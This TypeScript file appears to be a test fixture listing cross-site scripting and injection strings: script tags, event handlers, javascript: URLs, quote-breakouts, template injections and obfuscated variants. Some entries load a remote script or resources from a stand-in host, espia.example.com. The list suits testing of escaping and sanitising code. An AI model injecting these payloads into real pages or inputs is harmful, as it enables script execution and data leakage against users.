/** A script that leaves a trace if it runs. */
export const RUN = 'globalThis.ran=1';
const LEAK = 'https://espia.example.com/';

/** Markup and other strings that careless code treats as more than text. */
export const markup: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<script type="module">import("${LEAK}2.js")</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${LEAK}3.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="${LEAK}8"></object>`,
  `<link rel=stylesheet href="${LEAK}10.css">`,
  `<style>@import "${LEAK}12.css";</style>`,
  `<div style="background:url(${LEAK}14.png)">a</div>`,
  `<meta http-equiv=refresh content="0;url=${LEAK}15">`,
  `<body onload=${RUN}>`,
  `<video src="${LEAK}16.mp4" autoplay onloadstart=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<a href="javascript:${RUN}">a</a>`,
  `<form action="${LEAK}20"><button autofocus>a</button></form>`,
  `<!--><script>${RUN}</script>-->`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}`,
  '`${globalThis.ran=1}`',
  '${globalThis.ran=1}',
  '{{constructor.constructor("globalThis.ran=1")()}}',
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  '<scr\u0000ipt>globalThis.ran=1</scr\u0000ipt>',
  '\u202e<script>\u202cglobalThis.ran=1',
];
